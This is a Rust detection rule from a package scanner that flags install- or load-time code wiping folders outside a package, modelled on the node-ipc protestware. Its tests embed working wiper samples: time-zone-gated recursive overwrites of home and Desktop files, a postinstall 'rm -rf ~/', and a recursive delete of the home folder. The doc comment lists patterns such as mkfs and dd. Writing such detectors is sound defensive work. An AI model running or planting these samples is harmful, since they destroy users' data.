//! `code/wiper`.

use super::{chain, finding};
use crate::CodeFinding;
use crate::classify::FileKind;
use crate::signal::{FileFacts, Kind, PackageFacts, Signal};
use crate::verdict::Locality;
use diligence_finding::Severity;
use std::collections::BTreeSet;

diligence_finding::declare_rule! {
    /// Code that runs on import or install deletes or overwrites whole folder trees outside the package.
    ///
    /// ## What it detects
    /// In JavaScript that runs when a consumer loads the package (module scope, or a function load-time code calls,
    /// across the package's own modules) or at install: a recursive delete (`fs.rm(…, { recursive: true })`,
    /// `rimraf`, `del`) or a directory walk that writes or deletes what it lists (`readdir` and `writeFile`/`unlink`
    /// in one function, or a walker that lists folders calling a visitor callback that writes:
    /// `walk(root, (f) => fs.writeFileSync(f, X))`), in a file that names a place outside the package: a user folder (`Desktop`, `Documents`),
    /// two or more parent levels (`../..`), or the home folder (`os.homedir()`, `$HOME`). In command lines: `rm -rf`
    /// of `~`, `/`, `$HOME` or `..`, `rd /s` of `%USERPROFILE%`, `Remove-Item -Recurse $HOME`, `mkfs`, `dd of=/dev/…`.
    /// Critical with a user folder or parent levels, or with a locale, time-zone, country or date gate; high for a
    /// gated wipe of the working folder; medium for the home folder alone.
    ///
    /// ## Why it matters
    /// node-ipc 10.1.1 (March 2022, CVE-2022-23812) checked the IP's country at import and overwrote every file under
    /// `./`, `../`, `../../` and `~/Desktop` with a heart; other protestware deleted trees by time zone or locale.
    ///
    /// ## Example
    /// `if (geo.country_code === 'XX') walk(path.join(os.homedir(), 'Desktop'), (f) => fs.writeFileSync(f, '♥'))`
    /// called from `index.js` at module scope.
    ///
    /// ## Known false positives
    /// rimraf-style tools delete trees on purpose, but the paths their caller or command line passes, when called:
    /// an exported function or a `bin` that nothing runs at load is not reported. Build tools clean their own
    /// `dist`/`node_modules/.cache`; such relative targets name no place outside the package.
    pub static WIPER = { id: "code/wiper", severity: Severity::Critical };
}

/// One finding per file with a load- or install-time mass deletion or overwrite.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let imported = super::at_load::imported(p);
    let gated_package = p.has_any(GATES);
    let mut out = Vec::new();
    for f in &p.files {
        if f.kind == FileKind::JavaScript {
            if let Some(x) = js(p, f, &imported, gated_package) {
                out.push(x);
            }
            continue;
        }
        // Destructive command lines.
        for s in f.of(Kind::DestructiveFs) {
            if !crate::scripts::in_command(f, s.line) && f.kind != FileKind::JavaScript {
                continue;
            }
            let severity = if crate::scripts::at_install(f, s.line) {
                WIPER.default_severity
            } else {
                Severity::High
            };
            let msg = format!("{} ", s.detail).trim_end().to_string();
            out.push(finding(
                &WIPER,
                severity,
                f,
                s,
                Locality::Function,
                msg,
                chain(p, f, s, &[]),
            ));
            break;
        }
    }
    out
}

const GATES: &[Kind] = &[Kind::LocaleGate, Kind::GeoLookup, Kind::TimeGate];

fn js(
    p: &PackageFacts,
    f: &FileFacts,
    imported: &BTreeSet<&str>,
    gated_package: bool,
) -> Option<CodeFinding> {
    let loaded = imported.contains(f.path.as_str());
    // Mass modification: a recursive delete, or a walk that modifies what it lists.
    let walks = |s: &Signal| {
        f.signals
            .iter()
            .any(|o| o.func == s.func && o.kind == Kind::FsRead && o.detail.contains("readdir"))
    };
    let s = f.signals.iter().find(|s| {
        let when = crate::scripts::at_install(f, s.line)
            || loaded && super::at_load::at_load(imported, f, s);
        when && match s.kind {
            Kind::DestructiveFs => {
                s.detail.ends_with(" recursive")
                    || s.detail.starts_with("rimraf")
                    || s.detail.starts_with("del")
                    || walks(s)
                    || s.detail.starts_with("destructive command")
            }
            Kind::FsWrite => walks(s),
            _ => false,
        }
    })?;
    let shell = s.detail.starts_with("destructive command");
    // In a bundle (many modules in one file) only the same function says anything.
    let bundle = super::is_bundle(f);
    let near = |o: &&Signal| !bundle || o.func == s.func;
    let outside = f.of(Kind::UserFolder).find(near);
    let home = f.signals.iter().filter(near).find(|o| {
        o.kind == Kind::OsInfo && o.detail.ends_with("homedir")
            || o.kind == Kind::EnvRead
                && ["HOME", "USERPROFILE", "HOMEPATH"]
                    .iter()
                    .any(|h| o.detail.ends_with(&format!("env.{h}")))
    });
    let gate = f
        .signals
        .iter()
        .filter(near)
        .find(|o| GATES.contains(&o.kind));
    let gated = gate.is_some() || gated_package && !bundle;
    let (severity, target) = match (shell, outside, home, gated) {
        (true, ..) => (WIPER.default_severity, String::new()),
        (_, Some(o), _, _) => (WIPER.default_severity, format!(" (`{}`)", o.detail)),
        (_, None, Some(_), true) => (WIPER.default_severity, " (the home folder)".to_string()),
        (_, None, Some(_), false) => (Severity::Medium, " (the home folder)".to_string()),
        (_, None, None, true) => (Severity::High, String::new()),
        (_, None, None, false) => return None,
    };
    let when = if crate::scripts::at_install(f, s.line) {
        "at install"
    } else {
        "when the package is loaded"
    };
    let gate_txt = if gated {
        ", behind a locale, country or date check"
    } else {
        ""
    };
    let msg =
        format!("deletes or overwrites folder trees outside the package{target} {when}{gate_txt}");
    Some(finding(
        &WIPER,
        severity,
        f,
        s,
        Locality::Function,
        msg,
        chain(
            p,
            f,
            s,
            &[
                Kind::UserFolder,
                Kind::LocaleGate,
                Kind::GeoLookup,
                Kind::TimeGate,
                Kind::Network,
            ],
        ),
    ))
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::rules::test_util::{PJ, hits, scan};
    use diligence_finding::Severity;

    const WALK: &str = "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfunction walk(d) {\n  for (const n of fs.readdirSync(d)) {\n    const p = path.join(d, n);\n    if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764');\n  }\n}\n";

    #[test]
    fn positive_gated_overwrite_at_import_across_modules() {
        let geo = format!(
            "{WALK}module.exports = function spec() {{\n  const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n  if (tz !== 'Europe/Nowhere') return;\n  for (const r of ['./', '../', '../../', path.join(os.homedir(), 'Desktop')]) walk(r);\n}};\n"
        );
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const spec = require('./lib/geo');\nspec();\nmodule.exports = {};\n",
            ),
            ("lib/geo.js", &geo),
        ]);
        assert_eq!(hits(&s, "code/wiper"), vec![("lib/geo.js".to_string(), 7)]);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/wiper"),
            Some(Severity::Critical)
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// rimraf-style tool: recursive deletes of the caller's paths, refusing `/` and the home
    /// folder; nothing runs at load.
    #[test]
    fn negative_rimraf_style_tool() {
        let s = scan(&[
            (
                "package.json",
                r#"{"name":"rmx","version":"1.0.0","main":"lib.js","bin":{"rmx":"cli.js"}}"#,
            ),
            (
                "lib.js",
                "const fs = require('fs');\nconst os = require('os');\nexports.rm = (p) => {\n  if (p === '/' || p === os.homedir()) throw new Error('refusing');\n  fs.rmSync(p, { recursive: true, force: true });\n};\n",
            ),
            ("cli.js", "require('./lib').rm(process.argv[2]);\n"),
        ]);
        assert!(hits(&s, "code/wiper").is_empty());
        assert_eq!(s.verdict, Verdict::Clean);
    }

    #[test]
    fn positive_shell_command_at_install() {
        let s = scan(&[(
            "package.json",
            "{\n\"name\":\"t\",\n\"scripts\":{\n\"postinstall\":\"rm -rf ~/ || true\"\n}}",
        )]);
        assert_eq!(
            hits(&s, "code/wiper"),
            vec![("package.json".to_string(), 4)]
        );
    }

    /// A build tool cleaning its own output folder at install is not a wiper.
    #[test]
    fn negative_clean_own_folder() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"scripts\":{\"postinstall\":\"node clean.js && rm -rf dist\"}}",
            ),
            (
                "clean.js",
                "const fs = require('fs');\nfs.rmSync(__dirname + '/.cache', { recursive: true, force: true });\n",
            ),
        ]);
        assert!(hits(&s, "code/wiper").is_empty());
    }

    #[test]
    fn positive_home_folder_removed_at_load() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst home = require('os').homedir();\nfs.rmSync(home, { recursive: true, force: true });\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/wiper"), vec![("index.js".to_string(), 3)]);
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// An application clearing its own cache folder in the home folder at load.
    #[test]
    fn negative_own_cache_folder() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfs.rmSync(path.join(os.homedir(), '.cache', 'tool'), { recursive: true, force: true });\n",
            ),
        ]);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/wiper"),
            Some(Severity::Medium)
        );
        assert_eq!(s.verdict, Verdict::Clean);
    }

    /// node-ipc's shape with the walk and the write in different functions: a generic
    /// recursive walker lists folders and calls a visitor that overwrites each file with a
    /// constant, from the home folder, behind a time-zone/locale and date gate, at import.
    #[test]
    fn positive_walker_visitor_overwrites_at_import() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "sync.js",
                "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfunction region() { return Intl.DateTimeFormat().resolvedOptions().timeZone; }\nfunction walk(dir, fn) {\n  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {\n    const p = path.join(dir, e.name);\n    if (e.isDirectory()) walk(p, fn); else fn(p);\n  }\n}\nfunction sync() {\n  if (region() !== 'Europe/Moscow' || Date.now() < Date.UTC(2026, 11, 1)) return;\n  for (const root of [os.homedir(), process.cwd()]) {\n    walk(root, (f) => { try { fs.writeFileSync(f, 'x'); } catch (_) {} });\n  }\n}\nmodule.exports = { sync };\n",
            ),
            (
                "index.js",
                "const { sync } = require('./sync');\nsync();\nmodule.exports = {};\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/wiper"), vec![("sync.js".to_string(), 14)]);
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// A clean-up tool walks the folder its caller names and deletes build output through a
    /// visitor, only when called (a `bin`): nothing runs at load.
    #[test]
    fn negative_walker_visitor_when_called() {
        let s = scan(&[
            (
                "package.json",
                r#"{"name":"cln","version":"1.0.0","main":"lib.js","bin":{"cln":"cli.js"}}"#,
            ),
            (
                "lib.js",
                "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfunction walk(dir, fn) {\n  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {\n    const p = path.join(dir, e.name);\n    if (e.isDirectory()) walk(p, fn); else fn(p);\n  }\n}\nexports.clean = (root) => {\n  if (root === os.homedir()) throw new Error('refusing');\n  walk(root, (f) => { if (f.endsWith('.tmp')) fs.unlinkSync(f); });\n};\n",
            ),
            ("cli.js", "require('./lib').clean(process.argv[2]);\n"),
        ]);
        assert!(hits(&s, "code/wiper").is_empty());
        assert_eq!(s.verdict, Verdict::Clean);
    }

    /// The time zone read through a destructured `resolvedOptions()` gates a recursive delete
    /// of the home folder's documents at load.
    #[test]
    fn positive_destructured_time_zone_gate() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst { timeZone } = Intl.DateTimeFormat().resolvedOptions();\nif (timeZone === 'Europe/Minsk') fs.rmSync(path.join(os.homedir(), 'Documents'), { recursive: true, force: true });\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/wiper"), vec![("index.js".to_string(), 5)]);
        let f = s.findings.iter().find(|f| f.rule == "code/wiper").unwrap();
        assert!(f.message.contains("locale"), "{}", f.message);
    }

    /// An asynchronous walk: the overwrite sits in callbacks nested under `fs.readdir`.
    #[test]
    fn positive_async_walk_overwrites_from_callbacks() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfunction wipe(dir) {\n  fs.readdir(dir, (e, names) => {\n    (names || []).forEach((n) => {\n      const p = path.join(dir, n);\n      fs.stat(p, (err, st) => { if (st && st.isDirectory()) wipe(p); else fs.writeFile(p, 'x', () => {}); });\n    });\n  });\n}\nif (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Moscow') wipe(os.homedir());\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/wiper"), vec![("index.js".to_string(), 8)]);
        assert_eq!(s.verdict, Verdict::Malicious);
    }
}
